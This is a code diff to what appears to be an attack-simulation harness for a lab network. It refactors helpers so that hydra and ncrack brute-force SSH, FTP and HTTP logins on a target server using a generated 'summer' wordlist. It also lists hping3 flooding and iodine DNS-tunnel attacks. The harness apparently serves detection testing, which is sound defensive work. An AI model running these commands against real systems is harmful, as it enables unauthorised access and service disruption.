@@ -54,13 +54,19 @@ def _hping(line: str) -> Callable[[Office], None]:
     return _tool(f"hping3 -q -i u1000 {line}", 25)
 
 
-def _hydra(line: str, seconds: float = 35) -> Callable[[Office], None]:
+def _guessing(line: str, seconds: float) -> Callable[[Office], None]:
+    """With 4,000 passwords in a file that `line` calls "guesses"."""
+
     def act(office: Office) -> None:
         guesses = office.folder / "guesses"
         guesses.write_text("".join(f"summer{number}\n" for number in range(4_000)))
-        office.shell("pc3", f"cd {office.folder} && hydra -P {guesses} -I {line}", seconds)
+        office.shell("pc3", f"cd {office.folder} && {line}", seconds)
 
     return act
+
+
+def _hydra(line: str, seconds: float = 35) -> Callable[[Office], None]:
+    return _guessing(f"hydra -P guesses -I {line}", seconds)
 
 
 def _key_login(line: str) -> Callable[[Office], None]:
@@ -242,9 +248,7 @@ ATTACKS: Final = (
     Attack("hydra, SSH", "brute force", _hydra(f"-l root -t 4 ssh://{SRV}", 40)),
     Attack("hydra, FTP", "brute force", _hydra(f"-l root -t 4 ftp://{SRV}", 30)),
     Attack("hydra, HTTP", "brute force", _hydra(f"-l admin -t 4 http-get://{SRV}/private", 25)),
-    Attack(
-        "ncrack, SSH", "brute force", _tool(f"seq 4000 >/tmp/n; ncrack --user root -P /tmp/n -p 22 {SRV}", 40)
-    ),
+    Attack("ncrack, SSH", "brute force", _guessing(f"ncrack --user root -P guesses -p 22 {SRV}", 40)),
     Attack(
         "iodine, busy",
         "dns tunnel",
